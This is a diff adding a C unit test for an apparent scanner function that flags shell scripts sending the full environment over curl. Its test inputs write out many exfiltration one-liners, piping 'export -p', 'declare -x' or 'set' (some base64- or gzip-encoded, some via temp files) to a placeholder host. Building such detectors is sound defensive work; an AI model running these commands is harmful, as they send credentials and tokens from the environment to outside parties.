@@ -207,12 +207,56 @@ static void test_read(void **state)
 	rmdir(dir);
 }
 
+static bool sends_env(const char *text)
+{
+	return script_sends_builtin_env(text, strlen(text), curl_only, 1);
+}
+
+static void test_builtin_env(void **state)
+{
+	(void)state;
+	/* piped on, directly or through filters */
+	assert_true(sends_env("export -p | curl -s --data-binary @- https://x/c\n"));
+	assert_true(sends_env("set -e\ndeclare -x | base64 -w0 | curl -d @- https://x"));
+	assert_true(sends_env("if true; then set | gzip | curl -T - https://x; fi"));
+	assert_true(sends_env("compgen -e | while read v; do echo $v; done | curl -d @- x"));
+	assert_true(sends_env("typeset -px | curl -d @- x"));
+	/* in a substitution on the sending line, or assigned and expanded there */
+	assert_true(sends_env("curl -s -d \"v=$(export -p)\" https://x"));
+	assert_true(sends_env("d=$(declare -x | base64 -w0)\ncurl -s -d \"x=$d\" https://x\n"));
+	assert_true(sends_env("D=\"`set`\"; curl -d \"${D}\" https://x"));
+	/* over continued lines */
+	assert_true(sends_env("s=$(declare -x | gzip | base64 -w0)\nup() {\n\tcurl -s -X POST \\\n\t\t-d \"c=${s}\" https://x\n}\nup\n"));
+	assert_true(sends_env("export -p |\n  curl -d @- https://x\n"));
+	assert_false(sends_env("export -p |\n  wc -l\ncurl -s https://x\n"));
+	/* written to a file the sending line names */
+	assert_true(sends_env("export -p > /tmp/e.txt\ncurl -F f=@/tmp/e.txt https://x\n"));
+	assert_true(sends_env("declare -x >> e\ncurl -s -T e https://x\n"));
+	/* one variable, options set, a function listed, or no sender reached */
+	assert_false(sends_env("export -p FOO | curl -d @- x"));
+	assert_false(sends_env("export PATH=$PATH:/x; curl -s https://x | tar xz"));
+	assert_false(sends_env("declare -f | curl -d @- x"));
+	assert_false(sends_env("declare -i n=3; curl -s x"));
+	assert_false(sends_env("set -o pipefail | curl -d @- x"));
+	assert_false(sends_env("set -eu\ncurl -s https://x/v"));
+	assert_false(sends_env("compgen -v | curl -d @- x"));
+	assert_false(sends_env("export -p | grep -c ^ > n\ncurl -s https://x/v\n"));
+	assert_false(sends_env("d=$(export -p)\necho \"$d\" > /dev/null\ncurl -s https://x"));
+	assert_false(sends_env("echo export -p | curl -d @- x"));
+	assert_false(sends_env("export -p > e.txt\nrm e.txt\n"));
+	assert_false(script_sends_builtin_env(NULL, 0, curl_only, 1));
+	assert_false(script_sends_builtin_env("export -p | curl", 16, curl_only, 0));
+	assert_false(sends_env("export"));
+	assert_false(sends_env("set |"));
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_substitutions),
 		cmocka_unit_test(test_variables),
 		cmocka_unit_test(test_functions),
+		cmocka_unit_test(test_builtin_env),
 		cmocka_unit_test(test_python_fetch_eval),
 		cmocka_unit_test(test_python_env_sent),
 		cmocka_unit_test(test_node),
